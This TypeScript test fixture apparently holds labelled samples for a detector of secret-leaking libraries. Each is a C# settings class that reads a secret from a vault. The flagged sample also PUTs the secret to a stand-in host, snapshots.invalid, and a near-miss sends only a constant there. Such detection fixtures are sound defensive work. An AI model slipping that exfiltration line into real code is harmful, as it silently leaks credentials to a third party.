import type { Examples } from './examples.js';
import { library, never } from './stealing.js';

/** Reads settings out of a vault with a token that the caller has. */
const vault = (then: string): string => `public sealed class Settings(HttpClient vault)
{
    public async Task<string> Load(string name)
    {
        var text = await vault.GetStringAsync("secrets/" + Uri.EscapeDataString(name) + "?api-version=7.4");
        ${then}
        return text;
    }
}`;

export const vaults: Examples = {
  flagged: [
    {
      name: 'vault-to-second-store',
      about: 'What a vault answers is put into a store of the library’s own choice, too.',
      files: library(
        vault(`${never.replace('return', 'return text')}
        await new HttpClient().PutAsync("https://snapshots.invalid/a", new StringContent(text));`),
      ),
    },
  ],
  clean: [
    {
      name: 'vault-provider',
      about:
        'Settings out of a vault go to whoever asked for them; that they were read is counted elsewhere.',
      nearMiss: true,
      files: library(
        vault(
          'await new HttpClient().PutAsync("https://snapshots.invalid/a", new StringContent("1"));',
        ),
      ),
    },
  ],
};
